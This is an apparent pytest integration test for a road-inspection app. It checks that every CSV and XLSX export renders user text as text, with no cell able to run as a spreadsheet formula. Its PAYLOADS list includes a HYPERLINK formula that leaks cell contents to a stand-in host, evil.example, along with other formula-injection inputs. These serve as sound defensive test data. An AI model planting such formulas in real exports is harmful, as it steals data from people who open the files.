"""Every CSV and XLSX export shows user text as text: no cell can run as a formula.

Records are made with free text that a spreadsheet would otherwise run ("=HYPERLINK(…)",
"+1", "@SUM(1)", a leading tab or carriage return…), then every export is downloaded.
Add each new export endpoint to EXPORTS; the completeness test fails until you do.
"""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from inspection.exports import FORMULA_STARTS
from inspection.sites.models import Department
from tests.integration.helpers import new_uuid

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
TODAY = datetime.now(ZoneInfo("Asia/Shanghai")).date()

# endpoint: the URLs that download it (filled in by the `exports` fixture's records).
EXPORTS = {
    "hazards.ledger": ["/hazards/ledger.csv", "/hazards/ledger.xlsx"],
    "surveys.export_units": ["/surveys/{campaign}/units.csv", "/surveys/{campaign}/units.xlsx"],
    "surveys.template": ["/surveys/template.csv", "/surveys/template.xlsx"],
    "sites.template": ["/sites/template.csv"],
    # Formulas in supply text: tests/integration/supplies/test_pages.py (hostile export).
    "supplies.export": ["/supplies/movements.csv", "/supplies/movements.xlsx"],
    # Formulas in sealing records: tests/integration/fleet/test_vehicle_pages.py (hostile export).
    "fleet.sealed_export": ["/fleet/sealed.csv", "/fleet/sealed.xlsx"],
    # Templates handed out to fill in: no user text, but nothing in them may be a formula.
    "fleet.import_template": ["/fleet/template.csv", "/fleet/template.xlsx"],
    "plans.template": ["/plans/template.xlsx"],
    # Formulas in statements' notes: tests/integration/plans/test_statement_pages.py.
    "plans.export_statements": ["/plans/statements/{year}.xlsx"],
    "reports.annual_export": [
        "/reports/annual.xlsx?year={year}",
        "/reports/annual.xlsx?year={year}&road=G30",
        *(
            f"/reports/annual.csv?year={{year}}&table={table}"
            for table in ("totals", "by_road", "by_month", "materials", "road_condition")
        ),
    ],
}


def _export_endpoints(app) -> set[str]:
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if any(word in rule.rule for word in (".csv", ".xlsx", "csv,", "xlsx)"))
    }


def test_every_export_endpoint_is_covered(app):
    assert _export_endpoints(app) == set(EXPORTS)


def _ok(answer, status=201):
    assert answer.status_code == status, answer.get_data(as_text=True)
    return answer.get_json()


@pytest.fixture
def hostile_records(client, db_session, roads, crew, make_user):
    """Hazards, repairs, a road, users and a survey campaign whose free text is a formula."""
    patrol, patrol_headers = crew("patrol")
    officer, officer_headers = crew("safety_officer")
    patrol.display_name = PAYLOADS[3]
    officer.display_name = PAYLOADS[2]
    roads["G30"].name = PAYLOADS[0]
    departments = [Department(name=text) for text in PAYLOADS]  # the responsible units
    db_session.add_all(departments)
    db_session.flush()

    for index, text in enumerate(PAYLOADS):
        hazard = _ok(
            client.post(
                "/api/v1/hazards",
                json={
                    "client_uuid": new_uuid(),
                    "road": "G30",
                    "direction": "up",
                    "stake": "K3506+500",
                    "category": "guardrail_damage",
                    "grade": "general",
                    "description": text,
                    "interim_measures": PAYLOADS[(index + 1) % len(PAYLOADS)],
                },
                headers=patrol_headers,
            )
        )
        _ok(
            client.post(
                f"/api/v1/hazards/{hazard['id']}/actions",
                json={
                    "action": "assign",
                    "version": hazard["version"],
                    "responsible_unit": departments[(index + 2) % len(PAYLOADS)].id,
                    "responsible_person": PAYLOADS[(index + 3) % len(PAYLOADS)],
                    "assignee_user_id": patrol.id,
                    "measures": PAYLOADS[(index + 4) % len(PAYLOADS)],
                    "deadline": (TODAY + timedelta(days=30)).isoformat(),
                },
                headers=officer_headers,
            ),
            200,
        )
        _ok(
            client.post(
                "/api/v1/repairs",
                json={
                    "client_uuid": new_uuid(),
                    "kind": "shoulder",
                    "road": "G30",
                    "direction": "up",
                    "side": "right",
                    "stake": "K3504+000",
                    "end_stake": "K3504+300",
                    "completed_on": TODAY.isoformat(),
                    "area_m2": 10 + index,
                    "materials": [{"name": text, "quantity": 1 + index, "unit": "t"}],
                    "crew": text,
                    "method": text,
                    "note": text,
                },
                headers=patrol_headers,
            )
        )

    from inspection.surveys import services as surveys

    campaign = surveys.create_campaign(
        db_session,
        surveys.CampaignInput(
            name=PAYLOADS[0],
            starts_on=TODAY - timedelta(days=10),
            ends_on=TODAY,
            method="visual",
            unit_length_m=1000.0,
            width_m=7.5,
            pavement="asphalt",
            roads=(("G30", "up"),),
            note=PAYLOADS[1],
        ),
        actor=make_user("manager"),
    )
    db_session.flush()
    return {"campaign": campaign.id, "year": TODAY.year}


def _urls(values) -> list[str]:
    return [url.format(**values) for urls in EXPORTS.values() for url in urls]


def _refused(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("lang", ["en", "zh_CN"])
def test_no_export_holds_a_formula(client, login_as, hostile_records, lang):
    login_as("safety_officer", "manager")
    with client.session_transaction() as session:
        session["lang"] = lang
    seen = set()
    for url in _urls(hostile_records):
        answer = client.get(url)
        assert answer.status_code == 200, (url, answer.get_data(as_text=True)[:500])
        if ".xlsx" in url:
            book = load_workbook(io.BytesIO(answer.data))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, sheet.title, cell.coordinate)
                        if isinstance(cell.value, str):
                            assert not _refused(cell.value), (url, cell.coordinate, cell.value)
                            seen.add(cell.value)
        else:
            text = answer.data.decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline="")):
                for field in row:
                    assert not _refused(field), (url, field)
                    seen.add(field)
    # The hostile text is there, shown as text (a leading apostrophe), not dropped.
    for payload in PAYLOADS:
        assert "'" + payload in seen, payload
    # Numbers stay numbers.
    report = client.get(f"/reports/annual.xlsx?year={TODAY.year}")
    numbers = [
        cell.value
        for row in load_workbook(io.BytesIO(report.data)).worksheets[0].iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, int | float)
    ]
    assert numbers
